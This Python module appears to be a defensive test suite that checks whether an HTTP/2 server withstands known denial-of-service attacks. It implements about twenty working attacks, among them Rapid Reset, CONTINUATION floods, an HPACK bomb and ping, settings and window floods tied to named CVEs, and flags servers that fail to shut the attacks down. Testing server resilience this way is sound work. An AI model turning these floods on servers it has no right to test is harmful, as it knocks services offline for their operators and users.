"""The attacks: each takes the server's address, does its worst within bounds, and returns what became of it as a line;
it raises Wrong where the server did not answer as it must."""
import time

from frames import (CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PADDED, PING,
                    PRIORITY, block, frame, headers, request, reset, settings, text, u32, window)

SECONDS = 4  # that an attack may last


class Wrong(Exception):
    pass


def is_ended_calmly(connection, frames, code="ENHANCE_YOUR_CALM"):
    connection.until(lambda: connection.goaway() is not None)
    # A reset of the connection may have thrown the last words away: then that it ended must do.
    if connection.goaway() not in (code, None) or not (connection.ended or connection.goaway()):
        raise Wrong(f"GOAWAY {connection.goaway()}, ended: {connection.ended}; {code} was to come")
    said = connection.goaway() or "(its last words were lost)"
    connection.close()
    return f"ended with {said} after {frames} frames at most"


def flood(address, unit, most, code="ENHANCE_YOUR_CALM", begin=b"", read=True, times=3, batch=50):
    """unit(n) are the octets of the n-th; on so many connections, one after the other."""
    told = ""
    for _ in range(times):
        connection = Connection(address)
        connection.send(begin)
        count, until = 0, time.monotonic() + SECONDS
        while count < most and time.monotonic() < until:
            if not connection.send(b"".join(unit(n) for n in range(count, count + batch)), read=read):
                break
            count += batch
        told = is_ended_calmly(connection, count + batch, code)
    return told


def post(stream):
    return headers(stream, request(b"POST", b"/v1/products", (b"content-type", b"application/json")), END_HEADERS)


def rapid_reset(address):
    """CVE-2023-44487: streams that are opened and cancelled at once."""
    return flood(address, lambda n: headers(2 * n + 1, request()) + reset(2 * n + 1), 20_000)


def server_made_resets(address):
    """CVE-2025-8671: streams that the server must reset, since the peer breaks their rules."""
    told = []
    breaks = {"window of 0": lambda s: post(s) + window(s, 0),
              "window too large": lambda s: post(s) + window(s, 0x7fffffff),
              "DATA after the end": lambda s: headers(s, request()) + frame(DATA, 0, s, b"x"),
              "PRIORITY of 4 octets": lambda s: post(s) + frame(PRIORITY, 0, s, b"xxxx"),
              "a wrong length": lambda s: headers(s, request(b"GET", b"/", (b"content-length", b"7")))}
    for name, unit in breaks.items():
        told.append(f"{name}: " + flood(address, lambda n: unit(2 * n + 1), 20_000, times=1))
    return "; ".join(told)


def continuation_flood(address):
    """CVE-2024-27316 and its kin: a header block that does not end."""
    begin = frame(HEADERS, END_STREAM, 1, request())
    small = flood(address, lambda n: frame(CONTINUATION, 0, 1, block((b"a", b"b"))), 5000, begin=begin)
    large = flood(address, lambda n: frame(CONTINUATION, 0, 1, block((b"a", b"x" * 16_000))), 5000, begin=begin, batch=1)
    empty = flood(address, lambda n: frame(CONTINUATION, 0, 1, b""), 5000, begin=begin)
    return f"small: {small}; large: {large}; empty: {empty}"


def hpack_bomb(address):
    """CVE-2016-6581: a field of 4 KB enters the table, and blocks of an octet a field name it thousands of times."""
    connection = Connection(address)
    connection.send(headers(1, request() + b"\x40" + text(b"a") + text(b"x" * 4000)))
    bombs = 300
    for n in range(bombs):
        if not connection.send(headers(2 * n + 3, request() + b"\xbe" * 16_000)):
            break
    connection.until(lambda: connection.answered(2 * bombs + 1))
    if connection.goaway() is None and not connection.answered(2 * bombs + 1):
        raise Wrong("the last bomb was not answered")
    answers = sum(1 for f in connection.frames if f[0] == HEADERS)
    connection.close()
    return f"{bombs} blocks of 64 MB each: {answers} answers, {connection.resets()}, GOAWAY {connection.goaway()}"


def table_size_abuse(address):
    """A table-size update in the middle of a block, and one that is too large (RFC 7541 section 4.2)."""
    for octets in (request() + b"\x3f\xe1\x1f", b"\x3f\xff\xff\x7f" + request()):
        connection = Connection(address)
        connection.send(headers(1, octets))
        told = is_ended_calmly(connection, 1, "COMPRESSION_ERROR")
    return told


def ping_flood(address):
    """CVE-2019-9512."""
    read = flood(address, lambda n: frame(PING, 0, 0, b"12345678"), 40_000)
    unread = flood(address, lambda n: frame(PING, 0, 0, b"12345678"), 40_000, read=False)
    return f"{read}; answers unread: {unread}"


def settings_flood(address):
    """CVE-2019-9515; and thousands of settings in a frame, each of which touches every stream."""
    empty = flood(address, lambda n: settings(), 40_000)
    unread = flood(address, lambda n: settings(), 40_000, read=False)
    many = [(INITIAL_WINDOW_SIZE, n % 2) for n in range(2700)]
    windows = flood(address, lambda n: settings(*many), 40, batch=1,
                    begin=b"".join(headers(s, request()) for s in range(1, 199, 2)))
    return f"{empty}; answers unread: {unread}; windows: {windows}"


def empty_data_flood(address):
    """CVE-2019-9518."""
    return flood(address, lambda n: frame(DATA, 0, 1), 40_000, begin=post(1))


def empty_headers_flood(address):
    """CVE-2019-9518: HEADERS without a field, each of a new stream."""
    return flood(address, lambda n: headers(2 * n + 1, b""), 20_000)


def empty_names_flood(address):
    """CVE-2019-9516: fields without a name."""
    fields = request() + block((b"", b"")) * 20
    return flood(address, lambda n: headers(2 * n + 1, fields), 20_000)


def priority_flood(address):
    """CVE-2019-9513."""
    return flood(address, lambda n: frame(PRIORITY, 0, 2 * (n % 1000) + 1, u32(0) + b"x"), 40_000)


def unknown_frames_flood(address):
    return flood(address, lambda n: frame(99, 0, n % 7, b"whatever"), 40_000)


def refused_streams_flood(address):
    """More streams than it allows, again and again."""
    begin = b"".join(post(s) for s in range(1, 201, 2))
    return flood(address, lambda n: post(201 + 2 * n), 20_000, begin=begin)


def reset_flood(address):
    """CVE-2019-9514: RST_STREAM of streams that are over."""
    return flood(address, lambda n: reset(1), 20_000, begin=headers(1, request()))


def data_dribble(address):
    """CVE-2019-9511: a body in octets, each in a frame with padding around it."""
    connection = Connection(address)
    connection.send(post(1))
    count, until, credit = 0, time.monotonic() + SECONDS, 65_536
    while time.monotonic() < until and not connection.resets():
        # Each takes 20 of the windows, which come back.
        if not connection.send(frame(DATA, PADDED, 1, b"\x12{" + bytes(18)) * 500, within=SECONDS):
            break
        count += 500
        credit -= 500 * 20
        while credit < 500 * 20:
            if not connection.until(lambda: connection.windows(1) or connection.resets()) or connection.resets():
                break
            credit += connection.windows(1)
            connection.frames.clear()
    said = connection.goaway()
    connection.close()
    if said is not None or connection.resets().get("FLOW_CONTROL_ERROR"):
        raise Wrong(f"GOAWAY {said}, {connection.resets()}")
    return f"{count} frames of an octet, {connection.resets()}"


def never_reading(address):
    """CVE-2019-9517: windows as large as they can be, requests without end, and not an octet of the answers read."""
    told = []
    for path in (b"/v1/products", b"/nowhere"):
        connection = Connection(address, (INITIAL_WINDOW_SIZE, 0x7fffffff))
        connection.send(window(0, 0x7fffffff - 65535), read=False)
        asked, until = 0, time.monotonic() + SECONDS
        while time.monotonic() < until and asked < 200_000:
            # No more at once than are allowed: it is not to be ended for that.
            batch = b"".join(headers(2 * n + 1, request(b"GET", path)) for n in range(asked, asked + 50))
            if not connection.send(batch, within=1, read=False):
                break
            asked += 50
            time.sleep(0.002)
        held = bool(connection.unsent)
        told.append(f"{path.decode()}: {asked} requests taken, " + ("then not read" if held else "all taken")
                    + (", ended" if connection.ended else ""))
        if asked >= 200_000:
            raise Wrong(f"it took {asked} requests whose answers nobody reads")
        connection.close()
    return "; ".join(told)


def window_stall(address):
    """Requests with a window of nothing: their answers stay with the server."""
    connections = [Connection(address, (INITIAL_WINDOW_SIZE, 0)) for _ in range(20)]
    refused = 0
    for connection in connections:
        connection.send(b"".join(headers(2 * n + 1, request()) for n in range(300)))
        connection.until(lambda c=connection: c.resets().get("REFUSED_STREAM", 0) >= 200)
        refused += connection.resets().get("REFUSED_STREAM", 0)
    time.sleep(1)
    held = sum(not connection.ended for connection in connections)
    for connection in connections:
        connection.close()
    if refused < 20 * 200:
        raise Wrong(f"of 6000 streams {refused} were refused; 100 a connection are allowed")
    return f"{held} connections of 100 answers held, {refused} streams refused"


def tiny_window(address):
    """A window that grows by an octet, again and again, on a hundred streams."""
    connection = Connection(address, (INITIAL_WINDOW_SIZE, 1))
    streams = range(1, 201, 2)
    connection.send(b"".join(headers(s, request()) for s in streams))
    count, until = 0, time.monotonic() + SECONDS
    while time.monotonic() < until:
        if not connection.send(b"".join(window(s, 1) for s in streams), within=SECONDS):
            break
        count += len(streams)
    said = connection.goaway()
    connection.close()
    if said not in (None, "ENHANCE_YOUR_CALM"):
        raise Wrong(f"GOAWAY {said}")
    return f"{count} octets of window, GOAWAY {said}"


def window_overflow(address):
    """RFC 9113 section 6.9: more window than there can be, an increment of 0, more DATA than the window."""
    expected = {window(0, 0x7fffffff): "FLOW_CONTROL_ERROR", window(0, 0): "PROTOCOL_ERROR",
                settings((INITIAL_WINDOW_SIZE, 0x80000000)): "FLOW_CONTROL_ERROR"}
    for octets, code in expected.items():
        connection = Connection(address)
        connection.send(octets)
        is_ended_calmly(connection, 1, code)
    connection = Connection(address)
    connection.send(post(1))
    # At once, so that nothing of the window comes back between: more than 64 KiB of a stream.
    connection.send(frame(DATA, 0, 1, b"x" * 16384) * 60, within=2)
    connection.until(lambda: connection.resets() or connection.ended)
    told = f"GOAWAY {connection.goaway()}, {connection.resets()}"
    if connection.goaway() is None and not connection.resets():
        raise Wrong("983 KB on a stream of 64 KiB went through unread")
    connection.close()
    return told


def stream_id_abuse(address):
    """RFC 9113 section 5.1.1: ids that go down, of the server's side, of stream 0."""
    for octets in (headers(5, request()) + headers(3, request()), headers(2, request()), headers(0, request()),
                   frame(DATA, 0, 7, b"x"), window(9, 1), reset(9)):
        connection = Connection(address)
        connection.send(octets)
        told = is_ended_calmly(connection, 2, "PROTOCOL_ERROR")
    return told


ALL = {f.__name__: f for f in (
    rapid_reset, server_made_resets, continuation_flood, hpack_bomb, table_size_abuse, ping_flood, settings_flood,
    empty_data_flood, empty_headers_flood, empty_names_flood, priority_flood, unknown_frames_flood,
    refused_streams_flood, reset_flood, data_dribble, never_reading, window_stall, tiny_window, window_overflow,
    stream_id_abuse)}
